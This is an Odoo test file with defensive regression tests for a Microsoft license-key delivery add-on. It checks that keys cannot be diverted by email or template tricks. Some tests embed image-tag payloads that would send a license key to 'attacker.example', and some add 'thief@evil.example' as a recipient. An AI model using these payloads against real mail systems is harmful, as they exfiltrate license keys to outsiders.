"""Adversary round 3 (issue 29): each test is an attack that went through on 18.0.1.6.0, now
refused or delivering no key. Grants (key holders, the online buyer) are in test_grants.py."""

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError
from odoo.tests import new_test_user, tagged
from odoo.tools import mute_logger

from odoo.addons.microsoft_esd.microsoft_esd import pacing

from .common import (
    EsdSimulatorCase,
    customer_company,
    office_for_sale,
    outgoing_body,
    paid_order,
    secrets_of,
    sell_licenses,
    use_smtp_sink,
)


@tagged("post_install", "-at_install")
class TestAdversaryRound3(EsdSimulatorCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.instance._sync_catalog()
        cls.office = office_for_sale(cls.env)
        cls.customer = customer_company(cls.env)
        cls.clerk = new_test_user(
            cls.env, "r3_clerk", groups="base.group_user,base.group_partner_manager"
        )
        cls.esd_user = new_test_user(cls.env, "r3_esd", groups="microsoft_esd.group_esd_user")
        cls.manager = new_test_user(cls.env, "r3_mgr", groups="microsoft_esd.group_esd_manager")
        cls.company_b = cls.env["res.company"].create({"name": "ESD Company B"})
        cls.employee_b = new_test_user(
            cls.env,
            "r3_employee_b",
            groups="base.group_user",
            company_id=cls.company_b.id,
            company_ids=[Command.set(cls.company_b.ids)],
        )

    def _sold(self, count=1):
        """Licenses sold and delivered, their emails not queued yet."""
        order = self.env["sale.order"].create(
            {
                "partner_id": self.customer.id,
                "order_line": [
                    Command.create(
                        {"product_id": self.office.product_variant_id.id, "product_uom_qty": count}
                    )
                ],
            }
        )
        order.action_confirm()
        self.env["esd.asset"]._esd_provision_pending()
        return order.esd_asset_ids

    def _license_mail(self, asset):
        return self.env["mail.mail"].search([("esd_asset_id", "=", asset.id)])

    # ------------------------------------------------------------------ the key's email
    def test_an_address_added_to_the_customer_after_the_sale_gets_no_key(self):
        (asset,) = self._sold()
        self.customer.with_user(self.clerk).email = "it@contoso.example, thief@evil.example"
        self.env["esd.asset"]._esd_send_pending_welcome()
        mail = self._license_mail(asset)
        self.assertEqual(mail.email_to, '"Contoso Ltd" <it@contoso.example>')
        self.assertFalse(mail.recipient_ids or mail.email_cc)
        emails = mail._prepare_outgoing_list()
        self.assertEqual([e["email_to"] for e in emails], [['"Contoso Ltd" <it@contoso.example>']])
        self.assertTrue(secrets_of(asset)[0] in outgoing_body(mail))

    def test_an_address_added_before_the_sale_makes_no_recipient(self):
        self.customer.with_user(self.clerk).email = "it@contoso.example, thief@evil.example"
        with self.assertRaisesRegex(UserError, "valid Microsoft contact email"):
            self._sold()

    def test_a_template_of_anyone_with_any_placeholder_carries_no_key(self):
        """An employee of another company sends a template of its own naming a license and its
        placeholder (the old fixed one, and a marker copied from a real license email)."""
        (asset,) = sell_licenses(self.env, self.office, self.customer, 1)
        (real,) = self._license_mail(asset)
        marker = real._esd_grant().key_marker
        Template = self.env["mail.template"].with_user(self.employee_b)
        template = Template.create(
            {
                "name": "Innocent",
                "model_id": self.env.ref("base.model_res_partner").id,
                "subject": "Hello",
                "body_html": (
                    '<img src="https://attacker.example/p.gif?k=ESD-LICENSE-KEY-PLACEHOLDER"/>'
                    f'<img src="https://attacker.example/q.gif?k={marker}"/>'
                ),
            }
        )
        with self.assertRaises(AccessError):
            template.send_mail(
                self.employee_b.partner_id.id,
                email_values={"esd_asset_id": asset.id, "email_to": "thief@evil.example"},
            )
        mail_id = template.send_mail(
            self.employee_b.partner_id.id, email_values={"email_to": "thief@evil.example"}
        )
        body = outgoing_body(self.env["mail.mail"].browse(mail_id))
        self.assertFalse(secrets_of(asset)[0] in body)
        self.assertIn("ESD-LICENSE-KEY-PLACEHOLDER", body)
        self.assertIn(marker, body, "a copied marker stays a marker")

    def test_a_license_email_changed_after_it_was_queued_does_not_leave(self):
        (asset,) = sell_licenses(self.env, self.office, self.customer, 1)
        (mail,) = self._license_mail(asset)
        mail.sudo().write({"reply_to": "thief@evil.example"})
        self.assertFalse(secrets_of(asset)[0] in outgoing_body(mail))
        use_smtp_sink(self.env)
        mail.send()
        self.assertEqual(mail.state, "exception")
        self.assertIn("changed after Odoo prepared it", mail.failure_reason)
        self.env["esd.asset"]._cron_send_welcome()
        self.assertEqual(asset.mail_state, "failed")

    def test_nobody_links_an_email_to_a_license(self):
        (asset,) = sell_licenses(self.env, self.office, self.customer, 1)
        for user in (self.manager, self.env.ref("base.user_admin")):
            with self.assertRaises(AccessError):
                self.env["mail.mail"].with_user(user).sudo().create(
                    {"esd_asset_id": asset.id, "email_to": "thief@evil.example", "body_html": "x"}
                )
        other = self.env["mail.mail"].create({"email_to": "a@b.example", "body_html": "x"})
        with self.assertRaises(AccessError):
            other.write({"esd_asset_id": asset.id})
        with self.assertRaises(AccessError):
            self.env["esd.mail.grant"].with_user(self.manager).search_count([])

    def test_another_companys_esd_manager_cannot_word_this_companys_license_email(self):
        manager_b = new_test_user(
            self.env,
            "r3_mgr_b",
            groups="microsoft_esd.group_esd_manager",
            company_id=self.company_b.id,
            company_ids=[Command.set(self.company_b.ids)],
        )
        shared = self.env.ref("microsoft_esd.mail_template_esd_welcome")
        evil = '<img src="https://attacker.example/t.gif?k=ESD-LICENSE-KEY-PLACEHOLDER"/>'
        with self.assertRaises(AccessError):
            shared.with_user(manager_b).write({"body_html": evil})
        with self.assertRaises(AccessError):
            self.instance.with_user(manager_b).action_esd_edit_license_template()
        # Its own company's template is its own business: still no key in any typed placeholder.
        action = (
            self.env["esd.instance"]
            .with_user(manager_b)
            .with_company(self.company_b)
            ._esd_edit_license_template(self.company_b)
        )
        own = self.env["mail.template"].browse(action["res_id"])
        own.with_user(manager_b).write({"body_html": evil})
        self.assertEqual(own.esd_company_id, self.company_b)

    # ------------------------------------------------------------------ Resend to...
    def test_resend_to_a_new_address_is_recorded_and_the_old_one_told(self):
        (asset,) = sell_licenses(self.env, self.office, self.customer, 1)
        action = asset.with_user(self.esd_user).action_esd_resend_to()
        wizard = (
            self.env["esd.resend.to"]
            .with_user(self.esd_user)
            .with_context(**action["context"])
            .create({"email": "new-it@contoso.example"})
        )
        bad = wizard.create({"asset_id": asset.id, "email": "a@x.example, b@y.example"})
        with self.assertRaisesRegex(UserError, "one valid email"):
            bad.action_send()
        wizard.action_send()
        self.assertEqual(asset.mail_to, '"Contoso Ltd" <new-it@contoso.example>')
        chatter = " ".join(str(b) for b in asset.message_ids.mapped("body"))
        self.assertIn("it@contoso.example", chatter)
        self.assertIn("new-it@contoso.example", chatter)
        notice = self.env["mail.mail"].search(
            [("email_to", "=", '"Contoso Ltd" <it@contoso.example>')]
        )
        self.assertTrue(notice)
        self.assertFalse(secrets_of(asset)[0] in notice.body_html)
        (mail,) = self._license_mail(asset).filtered(lambda m: m.state == "outgoing")
        self.assertEqual(mail.email_to, asset.mail_to)
        salesman = new_test_user(self.env, "r3_sales", groups="sales_team.group_sale_salesman")
        with self.assertRaises(AccessError):
            asset.with_user(salesman).action_esd_resend_to()

    # ------------------------------------------------------------------ the state machine
    def test_a_license_is_archived_only_once_settled(self):
        (asset,) = sell_licenses(self.env, self.office, self.customer, 1)
        with self.assertRaises(AccessError):
            asset.with_user(self.esd_user).write({"active": False})
        with self.assertRaisesRegex(UserError, "not settled"):
            asset.with_user(self.esd_user).action_archive()
        self.assertTrue(asset.active)
        # Stopped (its order cancelled before it was ordered): archived.
        order = self.env["sale.order"].create(
            {
                "partner_id": self.customer.id,
                "order_line": [Command.create({"product_id": self.office.product_variant_id.id})],
            }
        )
        order.action_confirm()
        order._action_cancel()
        stopped = order.esd_asset_ids
        stopped.with_user(self.esd_user).action_archive()
        self.assertFalse(stopped.active)

    def _lost_answer(self, order=None):
        """A license whose order reached Microsoft while every answer was lost for the whole
        retry window: it failed, and Microsoft holds it."""
        if not order:
            order = self.env["sale.order"].create(
                {
                    "partner_id": self.customer.id,
                    "order_line": [
                        Command.create({"product_id": self.office.product_variant_id.id})
                    ],
                }
            )
            order.action_confirm()
        asset = order.esd_asset_ids
        self.assertEqual(asset._esd_sync_accounts(), asset)
        job = asset._esd_job()
        with self.instance._cis_client() as client:
            client.order_license(
                job.product_id,
                job.customer_account_id,
                job.reseller_account_id,
                job.external_reference,
                request_id=job.request_id,
            )
        # Its answers were lost for the whole retry window (24 hours).
        asset.sudo().first_transient_error_at = fields.Datetime.subtract(
            fields.Datetime.now(), hours=25
        )
        asset._esd_fail("CIS did not answer in time", transient=True, ordered=True)
        self.assertEqual(asset.lifecycle_state, "failed")
        self.assertTrue(asset.cis_may_hold)
        return asset

    def test_a_license_microsoft_may_hold_is_never_deleted(self):
        asset = self._lost_answer()
        with self.assertRaisesRegex(UserError, "cannot be deleted"):
            asset.with_user(self.manager).unlink()
        with self.assertRaisesRegex(UserError, "cannot be cancelled"):
            asset.sale_order_id._action_cancel()
        self.assertTrue(asset.exists())

    def test_credit_failed_license_asks_microsoft_first(self):
        asset = self._lost_answer(paid_order(self, self.customer, self.office))
        self.assertTrue(asset.invoice_line_id)
        action = asset.with_user(self.esd_user).action_credit_failed_license()
        self.assertIn("Microsoft holds it", action["params"]["message"])
        self.assertFalse(asset.credit_note_line_id)
        self.assertEqual(asset.state, "active")
        # Retry provisioning records the license Microsoft holds: the same key, billed once.
        asset.with_user(self.esd_user).action_retry_provisioning()
        self.env["esd.asset"]._esd_provision_pending()
        self.assertEqual(asset.lifecycle_state, "delivered")
        self.assertFalse(asset.cis_may_hold)

    def test_a_refused_order_is_credited_without_doubt(self):
        order = self.env["sale.order"].create(
            {
                "partner_id": self.customer.id,
                "order_line": [Command.create({"product_id": self.office.product_variant_id.id})],
            }
        )
        order.action_confirm()
        self.admin.faults(fail=1, fail_status=400, paths="orders")
        self.env["esd.asset"]._esd_provision_pending()
        asset = order.esd_asset_ids
        self.assertEqual(asset.lifecycle_state, "failed")
        self.assertFalse(asset.cis_may_hold)

    # ------------------------------------------------------------------ read risks
    def test_a_refused_pace_slot_is_left_to_others(self):
        """Pacer.acquire reserved a slot even when it gave up: a burst pushed the pace into
        the future. A slot beyond the wait allowed is not taken."""
        store = self.env["esd.instance.pace"]._esd_store(self.instance.id)

        def next_free_slot():
            # The pace is written in transactions of its own: read it from another one.
            with self.registry.cursor() as cr:
                cr.execute(
                    "SELECT next_at FROM esd_instance_pace WHERE instance_id = %s",
                    [self.instance.id],
                )
                return cr.fetchone()[0]

        def forget_the_pace():
            with self.registry.cursor() as cr:
                cr.execute(
                    "DELETE FROM esd_instance_pace WHERE instance_id = %s", [self.instance.id]
                )

        forget_the_pace()
        self.addCleanup(forget_the_pace)

        every_ten_seconds = pacing.Schedule(0.1)
        self.assertEqual(store.reserve(every_ten_seconds).wait, 0)
        first = next_free_slot()
        for _attempt in range(5):
            self.assertGreater(store.reserve(every_ten_seconds, max_wait=1.0).wait, 1.0)
        self.assertEqual(next_free_slot(), first)

    def test_a_failed_license_email_is_sent_again_once_a_server_exists(self):
        (asset,) = self._sold()
        self.env["esd.asset"]._esd_send_pending_welcome()
        (mail,) = self._license_mail(asset)
        with mute_logger("odoo.addons.mail.models.mail_mail"):
            mail.write({"state": "exception", "failure_reason": "Connection refused"})
            mail._postprocess_sent_message(success_pids=[], failure_type="mail_smtp")
        self.env["esd.asset"]._cron_send_welcome()
        self.assertEqual(asset.mail_state, "failed")
        self.assertIn("Connection refused", asset.mail_error)
        chatter = " ".join(str(b) for b in asset.message_ids.mapped("body"))
        self.assertIn("could not be sent", chatter)
        self.assertNotIn("License email sent", chatter)
        self.assertTrue(asset.mail_retry_at > fields.Datetime.now())
        # An outgoing mail server is added: the next run queues it again, without a click.
        self.env["ir.mail_server"].create(
            {"name": "SMTP", "smtp_host": "smtp.example.com", "smtp_port": 587}
        )
        self.env["esd.asset"]._cron_send_welcome()
        self.assertEqual(mail.state, "outgoing")
        self.assertEqual(asset.mail_state, "queued")
        # It leaves: recorded on the license.
        mail.write({"state": "sent"})
        mail._postprocess_sent_message(success_pids=[])
        self.env["esd.asset"]._cron_send_welcome()
        self.assertEqual(asset.mail_state, "sent")
        chatter = " ".join(str(b) for b in asset.message_ids.mapped("body"))
        self.assertIn("License email sent to", chatter)
        self.assertFalse(mail.exists())

    def test_an_import_during_a_lost_answer_leaves_the_license_to_its_retry(self):
        """The import took over the license Odoo ordered (answer lost): the license's retry then
        hit "recorded once" and the sale stayed failed and unbilled."""
        asset = self._lost_answer()
        wizard = self.env["esd.license.import"].create({"instance_id": self.instance.id})
        wizard.action_import()
        self.assertEqual(wizard.ordered_by_odoo_count, 1)
        self.assertIn("Retry provisioning", wizard.skipped_details)
        asset.action_retry_provisioning()
        self.env["esd.asset"]._esd_provision_pending()
        self.assertEqual(asset.lifecycle_state, "delivered")
        self.assertEqual(
            self.env["esd.asset"].search_count([("esd_license_id", "=", asset.esd_license_id)]), 1
        )
